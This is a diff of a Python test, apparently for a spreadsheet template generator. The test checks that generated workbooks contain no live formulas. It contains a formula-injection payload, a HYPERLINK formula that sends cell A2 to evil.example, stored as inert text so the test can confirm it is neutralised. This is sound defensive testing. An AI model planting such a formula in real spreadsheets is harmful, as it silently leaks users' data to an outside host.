@@ -153,7 +153,9 @@ def test_templates_write_text_never_formulas(mini_dir: Path):
     tables, _, problems = writer.check_folder(mini_dir, today=TODAY)
     assert problems == []
     book = openpyxl.load_workbook(io.BytesIO(templates.template_xlsx("models", tables)))
-    example = book["Dữ liệu"]["B2"]
+    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows()
+               for cell in row)
+    example = book["Giải thích"]["G3"]  # the example of “Tên mô hình”: the last stored row
     assert example.data_type == "s"
     assert example.value == "'=HYPERLINK(\"http://evil.example/?\"&A2,\"Mở\")"
     csv_text = templates.template_csv("models", tables).decode("utf-8-sig")
